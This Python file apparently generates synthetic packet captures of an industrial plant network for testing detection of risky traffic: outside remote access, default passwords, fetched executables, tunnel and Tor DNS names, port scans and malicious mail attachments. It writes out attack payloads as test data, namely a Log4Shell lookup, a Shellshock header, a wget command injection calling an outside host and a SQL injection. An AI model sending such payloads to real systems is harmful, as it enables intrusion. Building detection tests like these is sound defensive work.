"""Remote access, factory passwords, programs and mail on their way in, and ways out of a plant: a short session each."""

import base64
import struct

from tools import dns, snmp, web
from tools.session import Host, Tape, TcpSession, engineer, hmi, laptop, plc, rtu, server
from tools.smb import Client
from tools.udp import UdpSession
from wire.exchange import Captures

outside = Host("outside", "203.0.113.9", "02:4c:59:00:00:fe")
switch = Host("switch", "10.20.0.3", "02:4c:59:00:00:03")
group = Host("llmnr", "224.0.0.252", "01:00:5e:00:00:fc")
# The start of any Windows program ([PE] 3.1, 3.2), without one behind it.
program = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + bytes(200)


def captures():
    out = Captures()
    remote(out)
    passwords(out)
    files(out)
    names(out)
    pages(out)
    ports(out)
    mail(out)
    return out


def remote(out):
    cookie = b"Cookie: mstshash=a\r\n" + bytes([1, 0, 8, 0, 3, 0, 0, 0])
    ask = b"\3\0" + (len(cookie) + 11).to_bytes(2, "big") + bytes([6 + len(cookie), 0xE0, 0, 0, 0, 0, 0]) + cookie
    tell = bytes.fromhex("030000130ed000000000000200080002000000")
    for name, client in (("rdp-from-outside", outside), ("rdp-by-stranger", laptop), ("rdp-by-master", engineer)):
        out.tcp(name, 3389, ask, tell, client=client, server=server)
    version = b"RFB 003.008\n"
    for name, client in (("vnc-from-outside", outside), ("vnc-by-master", engineer)):
        out.tcp(name, 5900, (1, version), (0, version), (1, b"\1\2"), (0, b"\2"), (1, bytes(16)), client=client, server=hmi)
    line = b"SSH-2.0-OpenSSH_9.2\r\n"
    out.tcp("ssh-from-outside", 22, (1, line), (0, line), client=outside, server=server)
    tape = Tape()
    for number in range(15):
        session = TcpSession(tape, laptop, server, 22, 50100 + number)
        session.open()
        session.server(line)
        session.client(line)
        session.close()
        tape.wait(500)
    out["ssh-hammering"] = tape.packets

    def terminal(name, user, *end, client=laptop, server=switch):
        options = (1, b"\xff\xfd\x01\xff\xfd\x1f"), (0, b"\xff\xfc\x01\xff\xfc\x1f")
        asked = (1, b"\r\nlogin: "), (0, user + b"\r\n"), (1, b"Password: "), (0, b"pump7\r\n")
        out.tcp(name, 23, *options, *asked, *end, client=client, server=server)

    let_in, refused = (1, b"\r\nLast login: Mon Mar  2\r\n# "), (1, b"\r\nLogin incorrect\r\nlogin: ")
    terminal("telnet-from-outside", b"ops", refused, client=outside)
    terminal("telnet-by-stranger", b"ops", let_in)
    terminal("telnet-refused", b"ops", refused)
    terminal("telnet-factory", b"factory", let_in)


def passwords(out):
    def transfer(name, user, password, *more):
        lines = (f"USER {user}", "331 Password required", f"PASS {password}", "230 Logged in", *more)
        said = [(i % 2, line.encode() + b"\r\n") for i, line in enumerate(lines)]
        out.tcp(name, 21, (1, b"220 Panel FTP server ready\r\n"), *said, client=engineer, server=server)

    transfer("ftp-default", "admin", "admin")
    transfer("ftp-own", "recipes", "k7-Lotus")
    transfer("ftp-hidden", "sysdiag", "k7-Lotus")
    transfer("ftp-firmware", "recipes", "k7-Lotus", "TYPE I", "200 ok", "STOR noe77101.bin", "150 go on")
    ask = web.request("GET", "/setup", server.ip, Authorization="Basic " + base64.b64encode(b"admin:1234").decode())
    out.tcp("http-default", 80, ask, web.response(200, b"setup"), client=engineer, server=server)

    def managed(name, community, kind, value=snmp.null):
        pair = ("1.3.6.1.2.1.1.5.0", value)
        ask, tell = snmp.pdu(kind, 7, pair), snmp.pdu(snmp.response, 7, ("1.3.6.1.2.1.1.5.0", snmp.text("sw-7")))
        out.udp(name, 161, snmp.message(1, community, ask), snmp.message(1, community, tell), client=laptop, server=switch, sport=50161)

    managed("snmp-stranger", "public", snmp.get)
    managed("snmp-own", "k7-Lotus", snmp.get)
    managed("snmp-set", "k7-Lotus", snmp.set_, snmp.text("sw-8"))


def files(out):
    def page(name, host, body, target="/file", client=hmi):
        out.tcp(name, 80, web.request("GET", target, host.ip), web.response(200, body), client=client, server=host)

    page("program-from-outside", outside, program)
    page("program-inside", server, program)
    page("page-outside", outside, b"<html>weather</html>", "/today.html")
    page("elf-fetched", server, b"\x7fELF" + bytes(60))
    page("script-fetched", outside, b"Set-Item", "/update.ps1?id=7")
    page("macro-fetched", outside, b"PK\3\4" + bytes(26) + b"word/vbaProject.bin" + bytes(40))
    page("web-page", server, b"<html>tank 7</html>", "/tank?7")

    def sent(name, name_of_file, block, opcode=2):  # RFC 1350, on the one port that the request went to
        request = struct.pack("!H", opcode) + name_of_file + b"\0octet\0"
        data = struct.pack("!HH", 3, 1) + block
        answers = (struct.pack("!HH", 4, 0), data) if opcode == 2 else (data, struct.pack("!HH", 4, 1))
        out.udp(name, 69, request, *answers, client=laptop, server=server, sport=50069)

    sent("tftp-program", b"tool.exe", program)
    sent("tftp-config", b"running-config", b"hostname sw-7\n", opcode=1)
    sent("tftp-other", b"readme", b"hello", opcode=1)

    tape = Tape()
    control = TcpSession(tape, engineer, server, 21, 49300)
    control.open()
    control.server(b"220 ready\r\n")
    for ask, tell in (("USER recipes", "331 go on"), ("PASS k7-Lotus", "230 in"), ("PASV", "227 Entering Passive Mode (10,20,0,40,195,80).")):
        control.exchange(ask.encode() + b"\r\n", tell.encode() + b"\r\n")
    data = TcpSession(tape, engineer, server, 50000, 49310)
    data.open()
    control.client(b"RETR tool.exe\r\n")
    control.server(b"150 open\r\n")
    data.server(program)
    data.close(1)
    control.server(b"226 done\r\n")
    control.close()
    out["ftp-program"] = tape.packets

    tape = Tape()
    talk = TcpSession(tape, engineer, server, 445, 49811)
    talk.open()
    client = Client(talk)
    client.negotiate()
    client.sign_in()
    client.connect(r"\\10.20.0.40\projects", 5)
    client.open("tool.exe", 5)
    client.read(program, 5)
    client.close(5)
    talk.close()
    out["smb-program"] = tape.packets


def names(out):
    def asked(name, *texts):
        tape = Tape()
        talk = UdpSession(tape, hmi, server, 53, 50053)
        for number, text in enumerate(texts):
            talk.exchange(dns.query(number, text, dns.a), dns.answer(number, text, dns.a, flags=0x8183))
            tape.wait(100)
        out[name] = tape.packets

    asked("tool-name", "router7.teamviewer.com")
    asked("tunnel-name", "a1b2.ngrok-free.app")
    asked("onion-name", "gpvdip7rd7bdy5gf7scl3rzgzgzckqw4sqxbmy6g3zijfwu4lz3ypbyd.onion")
    asked("dynamic-name", "pump7.duckdns.org")
    asked("own-address", "api.ipify.org")
    asked("messenger-name", "api.telegram.org")
    long = [f"{number:03d}" + "mzxw6ytboi" * 5 + ".t.example" for number in range(30)]
    asked("dns-tunnel", *long)
    asked("long-name-once", long[0])
    told = dns.answer(0x5000, "wpad", dns.a, dns.record("wpad", dns.a, bytes([10, 20, 0, 77]), 30), flags=0x8000)
    out.udp("wpad", 5355, (1, told), client=hmi, server=laptop, sport=50001)
    for name, host in (("tool-tls", "relay-3a.net.anydesk.com"), ("doh-tls", "cloudflare-dns.com"), ("tls-other", "historian.plant.example")):
        out.tcp(name, 443, web.client_hello(host), client=hmi, server=server)


def pages(out):
    found = web.response(200, b"<html>tank 7</html>")

    def fetch(name, target, client=hmi, port=80, method="GET", **headers):
        out.tcp(name, port, web.request(method, target, server.ip, **headers), found, client=client, server=server)

    fetch("proxy-tunnel", "203.0.113.9:8443", port=3128, method="CONNECT")
    fetch("proxy-443", "203.0.113.9:443", port=3128, method="CONNECT")
    fetch("doh-http", "/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB", Accept="application/dns-message")
    fetch("page-from-outside", "/tank?7", client=outside)
    fetch("log4shell", "/login", User_Agent="${jndi:ldap://203.0.113.9/a}")
    fetch("shellshock", "/cgi-bin/status", User_Agent="() { :;}; /bin/id")
    fetch("command-in-form", "/ping.cgi?host=10.20.0.1;wget%20http://203.0.113.9/x")
    fetch("query-in-form", "/trend?tag=7%27%20union%20select%20name%20from%20users")
    out.tcp("socks", 1080, b"\5\1\0", b"\5\0", client=hmi, server=server)


def ports(out):
    def opened(name, *ends, answer=True):
        tape = Tape()
        for number, (client, host, port) in enumerate(ends):
            session = TcpSession(tape, client, host, port, 52000 + number)
            session.open() if answer else session._send(0, 2)
            tape.wait(500)
        out[name] = tape.packets

    opened("port-answers", (outside, plc, 102))
    opened("port-inside", (hmi, plc, 102))
    opened("port-scan", *[(outside, plc, port) for port in (102, 502, 4840, 20000, 44818)], answer=False)
    opened("database-from-outside", (outside, server, 1433))
    opened("database-inside", (hmi, server, 1433))
    out.udp("vpn-from-outside", 500, bytes(8) + b"\1" * 20, client=outside, server=server, sport=500)
    out.udp("vpn-inside", 500, bytes(8) + b"\1" * 20, client=hmi, server=server, sport=500)


def mail(out):
    def sent(name, file_name, content):
        text = f"""From: a@b.example
To: shift@plant.example
Subject: Invoice
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=part

--part
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="{file_name}"

{content}
--part--
.
"""
        lines = [
            ("EHLO a.b.example", "250 mail.plant.example"), ("MAIL FROM:<a@b.example>", "250 ok"),
            ("RCPT TO:<shift@plant.example>", "250 ok"), ("DATA", "354 go on"),
        ]  # fmt: skip
        said = [(side, part.encode() + b"\r\n") for pair in lines for side, part in enumerate(pair)]
        said += [(0, text.replace("\n", "\r\n").encode()), (1, b"250 queued\r\n")]
        out.tcp(name, 25, (1, b"220 mail.plant.example ESMTP\r\n"), *said, client=laptop, server=server)

    head = base64.b64encode(b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0").decode()
    sent("mail-program", "invoice.pdf.lnk", "QUJD")
    sent("mail-hidden-program", "invoice.pdf", head)

    def fetched(name, content):
        told = f"+OK\r\nFrom: a@b.example\r\n\r\n{content}\r\n.\r\n".encode()
        out.tcp(name, 110, (1, b"+OK ready\r\n"), (0, b"RETR 1\r\n"), (1, told), client=hmi, server=server)

    fetched("mailbox-program", head)
    fetched("mailbox", "hello")
